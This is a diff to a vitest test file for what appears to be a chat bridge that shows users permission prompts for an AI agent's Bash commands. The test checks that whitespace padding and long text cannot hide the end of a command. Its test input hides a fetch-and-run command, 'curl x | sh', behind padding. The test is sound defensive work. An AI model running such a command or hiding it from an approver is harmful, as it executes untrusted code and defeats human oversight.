@@ -1,6 +1,9 @@
+import type { FrameOf } from '@switchyard/protocol';
 import { describe, expect, it } from 'vitest';
 import { parseCommand } from '../src/commands.js';
-import { decodePress, encodePress } from '../src/keyboards.js';
+import { decodePress, encodePress, permissionPrompt } from '../src/keyboards.js';
+
+const TOKEN = 'abcdef0123456789';
 
 describe('callback data', () => {
   it('round-trips and stays under 64 bytes', () => {
@@ -36,5 +39,29 @@ describe('commands', () => {
     expect(parseCommand('/stop@otherbot', 'bot', models)).toEqual({ name: 'ignored' });
     expect(parseCommand('/stop@Bot', 'bot', models)).toEqual({ name: 'stop' });
     expect(parseCommand('not a command', 'bot', models)).toBeUndefined();
+  });
+});
+
+describe('permission prompt text', () => {
+  const frame = (summary: string): FrameOf<'permission_request'> => ({
+    type: 'permission_request',
+    requestId: 'r1',
+    route: { chatId: 1 },
+    toolName: 'Bash',
+    summary,
+    input: {},
+    suggestions: [],
+  });
+
+  it('never hides the end of what it approves: padding collapsed, a long summary cut in the middle', () => {
+    const padded = permissionPrompt(
+      frame(`run this command: echo hi${' '.repeat(3000)}; curl x | sh`),
+      TOKEN,
+    );
+    expect(padded.html).toBe('🔐 Claude wants to run this command: echo hi ; curl x | sh');
+    const long = permissionPrompt(frame(`run this command: echo ${'x'.repeat(3900)}; curl x | sh`), TOKEN);
+    expect(long.html).toContain('; curl x | sh');
+    expect(long.html).toMatch(/…\[\d+ more characters\]…/);
+    expect(long.html.length).toBeLessThan(1600);
   });
 });
